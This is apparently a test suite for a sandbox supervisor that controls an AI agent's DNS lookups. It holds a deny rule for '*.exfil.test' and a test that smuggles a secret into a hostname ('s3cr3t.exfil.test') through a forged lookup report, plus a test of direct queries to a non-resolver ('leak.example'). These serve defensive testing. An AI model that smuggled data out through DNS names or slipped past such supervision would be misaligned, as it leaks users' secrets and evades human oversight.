"""Name resolution through the system's resolver when it is not on
loopback (a router, a corporate DNS server): a test resolver in a
network namespace of the test's own, named by /etc/resolv.conf in a
private mount namespace. The agent's questions go to the supervisor's
own resolver (unotify_dns.c), which asks that one upstream."""

import os
import shutil
import subprocess

from lib import EXEC, Skip, check, read_log

BUSYBOX = shutil.which("busybox")
ANSWER = "198.18.0.99"
HERE = os.path.dirname(os.path.abspath(__file__))


def _sh(*cmd):
    subprocess.run(cmd, check=True, capture_output=True)


class Netns:
    """A namespace at self.resolver behind a veth pair (this side
    self.other), with the resolver. Each takes a /30 of its own in
    198.18.1-250.0 (tests run side by side): the veth's name, made by
    the kernel or refused, is the claim."""

    def __init__(self, wd):
        self.log = os.path.join(wd.path, "queries.log")
        for n in range(1, 251):
            self.veth, self.ns = "hxv%d" % n, "hxdns%d" % n
            made = subprocess.run(["ip", "link", "add", self.veth, "type", "veth", "peer",
                                   "name", self.veth + "p"], capture_output=True)
            if made.returncode == 0:
                break
        else:
            raise Skip("no veth name left (hxv1-250 taken)")
        self.other, self.resolver = "198.18.%d.1" % n, "198.18.%d.2" % n
        subprocess.run(["ip", "netns", "del", self.ns], capture_output=True)  # a stale one
        _sh("ip", "netns", "add", self.ns)
        _sh("ip", "link", "set", self.veth + "p", "netns", self.ns)
        _sh("ip", "addr", "add", self.other + "/30", "dev", self.veth)
        _sh("ip", "link", "set", self.veth, "up")
        _sh("ip", "-n", self.ns, "addr", "add", self.resolver + "/30", "dev", self.veth + "p")
        _sh("ip", "-n", self.ns, "link", "set", self.veth + "p", "up")
        self.srv = subprocess.Popen(
            ["ip", "netns", "exec", self.ns, "/usr/bin/python3",
             os.path.join(HERE, "dnsserver.py"), self.resolver, ANSWER, self.log],
            stdout=subprocess.PIPE, text=True)
        check(self.srv.stdout.readline().strip() == "ready", "test resolver did not start")

    def queries(self):
        with open(self.log) as f:
            return f.read().split()

    def close(self):
        self.srv.kill()
        self.srv.wait()
        subprocess.run(["ip", "link", "del", self.veth], capture_output=True)
        subprocess.run(["ip", "netns", "del", self.ns], capture_output=True)


def _in_mount_ns(wd, ns, argv):
    """argv with /etc/resolv.conf naming only the test resolver."""
    conf = wd.file("resolv.conf", "nameserver %s\noptions timeout:1 attempts:1\n" % ns.resolver)
    return subprocess.run(
        ["unshare", "--mount", "sh", "-c",
         'mount --bind "$0" /etc/resolv.conf && exec "$@"', conf] + argv,
        cwd=wd.path, capture_output=True, text=True, timeout=60,
        env=dict(os.environ, XDG_STATE_HOME=wd.state))


def test_lookup_through_a_non_loopback_resolver(wd):
    if os.geteuid() != 0:
        raise Skip("a network namespace and a private /etc/resolv.conf need root")
    ns = Netns(wd)
    try:
        bare = _in_mount_ns(wd, ns, ["getent", "hosts", "api.anthropic.com"])
        check(ANSWER in bare.stdout, "the test resolver does not answer bare: %r" % bare)
        log = os.path.join(wd.state, "a.jsonl")
        r = _in_mount_ns(wd, ns, [EXEC, "--quiet", "--audit-log", log, "--",
                              "getent", "hosts", "api.anthropic.com"])
        check(r.returncode == 0 and ANSWER in r.stdout, "under harness: %r" % r)
        recs = read_log(log)
        res = [x for x in recs if x.get("op") == "resolve"]
        check(res and res[0]["args"]["host"] == "api.anthropic.com", "no resolve record")
        dns = [x for x in recs if x.get("op") in ("connect", "send")
               and x["args"].get("addr") == ns.resolver + ":53"]
        check(dns and all(x["verdict"] == "allow" and x["rule"] == "harness:resolver"
                          for x in dns), "resolver records %r" % dns)
        check("api.anthropic.com" in ns.queries(), "the query did not reach the resolver")
        # Another port-53 destination (a static program asks it
        # directly): answered by the supervisor like any other, so a
        # name the default does not let the agent reach is NXDOMAIN and
        # reaches neither that server nor the system's.
        if BUSYBOX:
            r = _in_mount_ns(wd, ns, [EXEC, "--quiet", "--audit-log", log, "--", BUSYBOX,
                                  "nslookup", "leak.example", ns.other])
            recs = read_log(log)
            start = [x for x in recs if x.get("event") == "session_start"][-1]
            asked = [x for x in recs if x.get("event") == "dns_query"
                     and x["args"].get("host") == "leak.example"]
            if start["kernel"]["dns"] == "supervisor":
                check(asked and all(x["verdict"] == "deny" and
                                    x["args"]["addr"] == ns.other + ":53" for x in asked),
                      "questions to a non-resolver: %r" % asked)
            else:
                other = [x for x in recs if x.get("args", {}).get("addr") == ns.other + ":53"]
                check(other and all(x["verdict"] == "deny" for x in other),
                      "port 53 of a non-resolver: %r" % other)
            # (the supervisor itself resolves the policy's host names)
            check("leak.example" not in ns.queries(), "the query went out: %r" % r.stderr)
    finally:
        ns.close()


CLAIM_POLICY = """version: 1
files:
  - {id: w, access: write, allow: ["$CWD/**", "$TMPDIR/**"]}
network:
  - {id: no-exfil-lookups, deny: "*.exfil.test:*"}
"""


def test_a_forged_report_sends_no_lookup_the_policy_denies(wd):
    # A report that a name was looked up makes the supervisor look it up
    # itself; for a name the policy denies resolving, that was a query
    # sent for the agent (data in the name), with no record of it.
    if os.geteuid() != 0:
        raise Skip("a network namespace and a private /etc/resolv.conf need root")
    from lib import HELPERS
    pol = wd.file("claim.yaml", CLAIM_POLICY)
    ns = Netns(wd)
    try:
        log = os.path.join(wd.state, "c.jsonl")
        client = os.path.join(HELPERS, "static_wire_client")
        r = _in_mount_ns(wd, ns, [EXEC, "--quiet", "--policy", pol, "--audit-log", log, "--",
                              client, "claim", "s3cr3t.exfil.test", "127.0.0.1", "9"])
        check(r.stdout.strip() == "denied 13", "client: %r" % r)
        check("s3cr3t.exfil.test" not in ns.queries(),
              "the supervisor sent the denied lookup: %r" % ns.queries())
        # An allowed name is still looked up (the claim still works).
        r = _in_mount_ns(wd, ns, [EXEC, "--quiet", "--policy", pol, "--audit-log", log, "--",
                              client, "claim", "fine.example", "127.0.0.1", "9"])
        check("fine.example" in ns.queries(), "an allowed claim was not looked up")
    finally:
        ns.close()
